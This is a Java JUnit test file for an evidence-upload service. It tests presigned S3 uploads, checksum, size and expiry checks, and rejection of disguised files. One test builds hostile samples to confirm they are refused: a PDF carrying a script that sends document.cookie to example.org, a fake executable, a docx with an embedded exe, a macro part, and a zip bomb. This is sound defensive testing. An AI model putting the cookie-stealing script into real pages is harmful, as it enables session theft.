package org.groupeval.evidence;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.groupeval.evidence.EvidenceFixture.World;
import org.groupeval.local.SampleZip;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.s3.model.NoSuchKeyException;
import software.amazon.awssdk.services.s3.model.S3Exception;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

import static org.groupeval.evidence.EvidenceFixture.declaration;
import static org.groupeval.evidence.EvidenceFixture.pdf;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Uploads through presigned URLs to the local S3 (S3Mock behind the SigV4-checking gateway), and the check the
 * bucket notification triggers in the upload function, invoked from the template's S3 event as S3 would.
 */
class EvidenceUploadTest {

    private static EvidenceFixture fx;

    @BeforeAll
    static void start() {
        fx = EvidenceFixture.get();
    }

    @Test
    void aFileUploadedThroughThePresignedUrlIsVerifiedAndDownloadsUnderItsName() {
        World w = fx.world();
        byte[] content = pdf("章程全文");
        JsonNode declared = fx.declared(w, declaration("A01", "集团章程 2026.pdf", "application/pdf", content));
        assertEquals("PENDING", declared.get("status").asText());
        assertEquals("application/pdf", declared.at("/uploadHeaders/Content-Type").asText());
        assertEquals(String.valueOf(content.length), declared.at("/uploadHeaders/Content-Length").asText());
        assertEquals(java.util.Base64.getEncoder().encodeToString(java.util.HexFormat.of()
                .parseHex(EvidenceFixture.sha256(content))), declared.at("/uploadHeaders/x-amz-checksum-sha256").asText());
        assertTrue(Instant.parse(declared.get("expiresAt").asText()).isAfter(Instant.now().plusSeconds(14 * 60)));

        HttpResponse<String> put = fx.upload(declared, content);
        assertEquals(200, put.statusCode(), put.body());

        JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
        assertEquals("VERIFIED", checked.get("status").asText(), checked.toString());
        assertFalse(checked.has("reason"));
        HttpResponse<byte[]> download = fx.download(checked.get("downloadUrl").asText());
        assertEquals(200, download.statusCode());
        assertArrayEquals(content, download.body());
        assertTrue(Instant.parse(checked.get("downloadExpiresAt").asText()).isBefore(Instant.now().plusSeconds(301)));
    }

    @Test
    void officeDocumentsAreRecognisedByTheirPartsNotTheirNames() {
        World w = fx.world();
        byte[] docx = docx("集团章程");
        JsonNode word = fx.declared(w, declaration("A02", "plan.docx", DOCX, docx));
        assertEquals(200, fx.upload(word, docx).statusCode());
        assertEquals("VERIFIED", fx.awaitChecked(w, word.get("evidenceId").asText()).get("status").asText());

        byte[] xlsx = xlsx("教师交流名单");
        JsonNode misnamed = fx.declared(w, declaration("A02", "plan.docx", DOCX, xlsx));
        assertEquals(200, fx.upload(misnamed, xlsx).statusCode());
        JsonNode rejected = fx.awaitChecked(w, misnamed.get("evidenceId").asText());
        assertEquals("REJECTED", rejected.get("status").asText());
        assertTrue(rejected.get("reason").asText().contains("xlsx"), rejected.toString());
    }

    @Test
    void filesThatOnlyStartLikeTheirTypeAreRejectedNamingWhatIsWrong() {
        World w = fx.world();
        byte[] docx = docx("集团章程");
        byte[] exe = exe();
        record Hostile(String name, String contentType, byte[] content, String reason) {
        }
        List<Hostile> files = List.of(
                new Hostile("pdf-then-exe.pdf", "application/pdf", concat(ascii("%PDF-1.7\n"), exe),
                        "content is not a valid pdf (application/pdf): a Windows executable at byte 9, where a PDF "
                                + "has only objects"),
                new Hostile("pdf-then-html.pdf", "application/pdf", ascii("%PDF-1.7\n<html><body><script>"
                        + "document.location='https://example.org/?'+document.cookie</script></body></html>\n"),
                        "content is not a valid pdf (application/pdf): HTML with a script at byte 9"),
                new Hostile("exe-inside.docx", DOCX, SampleZip.withParts(docx, Map.of("word/media/setup.exe", exe)),
                        "content is not a valid docx (" + DOCX + "): it holds an executable or script part: "
                                + "word/media/setup.exe"),
                new Hostile("macros.docx", DOCX, SampleZip.withParts(docx, Map.of("word/vbaProject.bin",
                        new byte[4096])), "it holds macros (word/vbaProject.bin)"),
                new Hostile("bomb.docx", DOCX, SampleZip.withParts(docx, Map.of("word/media/image1.png",
                        new byte[64 * 1024 * 1024])), "(a zip bomb)"));
        for (Hostile file : files) {
            JsonNode declared = fx.declared(w, declaration("A12", file.name(), file.contentType(), file.content()));
            assertEquals(200, fx.upload(declared, file.content()).statusCode(), file.name());
            JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
            assertEquals("REJECTED", checked.get("status").asText(), file.name() + ": " + checked);
            assertTrue(checked.get("reason").asText().contains(file.reason()), file.name() + ": " + checked);
            assertFalse(checked.has("downloadUrl"), "a rejected file is not served");
        }
    }

    @Test
    void aPdfThatIsReallyAnExecutableIsRejectedWithTheReason() {
        World w = fx.world();
        byte[] exe = exe();
        JsonNode declared = fx.declared(w, declaration("A03", "会议纪要.pdf", "application/pdf", exe));
        assertEquals(200, fx.upload(declared, exe).statusCode());
        JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
        assertEquals("REJECTED", checked.get("status").asText());
        assertEquals("content is a Windows executable, not pdf (application/pdf) as declared",
                checked.get("reason").asText());
        assertFalse(checked.has("downloadUrl"), "a rejected file is not served");
    }

    @Test
    void anObjectWhoseBytesDifferFromTheDeclarationIsRejectedNamingTheChecksum() {
        World w = fx.world();
        byte[] declaredBytes = pdf("the declared text");
        byte[] storedBytes = pdf("the other text!!!");
        assertEquals(declaredBytes.length, storedBytes.length);
        JsonNode declared = fx.declared(w, declaration("A04", "exchange.pdf", "application/pdf", declaredBytes));
        // written around the presigned URL (S3 itself refuses a wrong checksum on it): the check still catches it
        fx.directS3.putObject(b -> b.bucket(fx.bucket).key(objectKey(w, declared)).contentType("application/pdf"),
                RequestBody.fromBytes(storedBytes));
        JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
        assertEquals("REJECTED", checked.get("status").asText());
        assertEquals("SHA-256 is " + EvidenceFixture.sha256(storedBytes) + ", declared "
                + EvidenceFixture.sha256(declaredBytes), checked.get("reason").asText());
    }

    @Test
    void anObjectOfAnotherSizeThanDeclaredIsRejectedNamingTheSize() {
        World w = fx.world();
        byte[] declaredBytes = pdf("short");
        byte[] storedBytes = pdf("a good deal longer than declared");
        JsonNode declared = fx.declared(w, declaration("A05", "training.pdf", "application/pdf", declaredBytes));
        fx.directS3.putObject(b -> b.bucket(fx.bucket).key(objectKey(w, declared)).contentType("application/pdf"),
                RequestBody.fromBytes(storedBytes));
        JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
        assertEquals("REJECTED", checked.get("status").asText());
        assertEquals("size is " + storedBytes.length + " bytes, declared " + declaredBytes.length,
                checked.get("reason").asText());
    }

    @Test
    void thePresignedUrlRefusesOtherBytesOrAnotherLength() {
        World w = fx.world();
        byte[] content = pdf("declared");
        JsonNode declared = fx.declared(w, declaration("A06", "x.pdf", "application/pdf", content));
        byte[] sameLength = pdf("Declared");
        HttpResponse<String> wrongBytes = fx.upload(declared, sameLength);
        assertEquals(400, wrongBytes.statusCode());
        assertTrue(wrongBytes.body().contains("<Code>BadDigest</Code>"), wrongBytes.body());
        HttpResponse<String> wrongLength = fx.upload(declared, pdf("declared, and then some"));
        assertEquals(403, wrongLength.statusCode());
        assertTrue(wrongLength.body().contains("<Code>SignatureDoesNotMatch</Code>"), wrongLength.body());
        fx.s3.gateway().drainNotifications(Duration.ofSeconds(10));
        assertEquals("PENDING", EvidenceFixture.body(fx.getOne(w, declared.get("evidenceId").asText(),
                EvidenceFixture.city())).get("status").asText(), "nothing was stored, so nothing was checked");
    }

    @Test
    void anExpiredUploadUrlIsRefusedLikeS3() {
        World w = fx.world();
        byte[] content = pdf("late");
        JsonNode declared = fx.declared(w, declaration("A07", "late.pdf", "application/pdf", content));
        fx.s3.gateway().clock(Clock.offset(Clock.systemUTC(), Duration.ofMinutes(15).plusSeconds(5)));
        try {
            HttpResponse<String> put = fx.upload(declared, content);
            assertEquals(403, put.statusCode());
            assertTrue(put.body().contains("<Code>AccessDenied</Code><Message>Request has expired</Message>"),
                    put.body());
        } finally {
            fx.s3.gateway().clock(Clock.systemUTC());
        }
        assertEquals(200, fx.upload(declared, content).statusCode(), "still valid before its 15 minutes are up");
    }

    @Test
    void aDownloadUrlExpiresAfterFiveMinutes() {
        World w = fx.world();
        byte[] content = pdf("download");
        JsonNode declared = fx.declared(w, declaration("A08", "d.pdf", "application/pdf", content));
        fx.upload(declared, content);
        String url = fx.awaitChecked(w, declared.get("evidenceId").asText()).get("downloadUrl").asText();
        fx.s3.gateway().clock(Clock.fixed(Instant.now().plus(Duration.ofMinutes(5)).plusSeconds(5), ZoneOffset.UTC));
        try {
            HttpResponse<byte[]> late = fx.download(url);
            assertEquals(403, late.statusCode());
            assertTrue(new String(late.body(), StandardCharsets.UTF_8).contains("Request has expired"));
        } finally {
            fx.s3.gateway().clock(Clock.systemUTC());
        }
    }

    @Test
    void theBucketRefusesUnsignedRequests() {
        World w = fx.world();
        byte[] content = pdf("private");
        JsonNode declared = fx.declared(w, declaration("A09", "p.pdf", "application/pdf", content));
        fx.upload(declared, content);
        fx.awaitChecked(w, declared.get("evidenceId").asText());
        String plain = declared.get("uploadUrl").asText().replaceAll("\\?.*$", "");
        assertEquals(403, fx.download(plain).statusCode());
    }

    @Test
    void anObjectNobodyDeclaredIsDeleted() {
        World w = fx.world();
        String key = "evidence/" + w.year() + "/" + w.groupId() + "/ev-undeclared" + EvidenceFixture.unique();
        fx.directS3.putObject(b -> b.bucket(fx.bucket).key(key), RequestBody.fromBytes(pdf("smuggled")));
        fx.s3.gateway().drainNotifications(Duration.ofSeconds(30));
        S3Exception gone = assertThrows(S3Exception.class,
                () -> fx.directS3.headObject(b -> b.bucket(fx.bucket).key(key)));
        assertEquals(404, gone.statusCode());
        assertThrows(NoSuchKeyException.class, () -> fx.directS3.getObjectAsBytes(b -> b.bucket(fx.bucket).key(key)));
    }

    @Test
    void aRejectedFileBecomesVerifiedWhenTheRightBytesAreUploaded() {
        World w = fx.world();
        byte[] content = pdf("right");
        JsonNode declared = fx.declared(w, declaration("A10", "r.pdf", "application/pdf", content));
        fx.directS3.putObject(b -> b.bucket(fx.bucket).key(objectKey(w, declared)), RequestBody.fromBytes(pdf("wrong")));
        assertEquals("REJECTED", fx.awaitChecked(w, declared.get("evidenceId").asText()).get("status").asText());
        assertEquals(200, fx.upload(declared, content).statusCode());
        fx.s3.gateway().drainNotifications(Duration.ofSeconds(30));
        JsonNode checked = fx.awaitChecked(w, declared.get("evidenceId").asText());
        assertEquals("VERIFIED", checked.get("status").asText(), checked.toString());
        assertFalse(checked.has("reason"));
    }

    private static String objectKey(World w, JsonNode declared) {
        return "evidence/" + w.year() + "/" + w.groupId() + "/" + declared.get("evidenceId").asText();
    }

    static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

    /** A real Word document (written by Apache POI). */
    static byte[] docx(String text) {
        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText(text);
            document.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A real Excel workbook (written by Apache POI). */
    static byte[] xlsx(String text) {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.createSheet("名单").createRow(0).createCell(0).setCellValue(text);
            workbook.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The first bytes of a Windows executable. */
    static byte[] exe() {
        byte[] exe = new byte[2048];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[60] = (byte) 0x80;
        return exe;
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] joined = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, joined, a.length, b.length);
        return joined;
    }
}
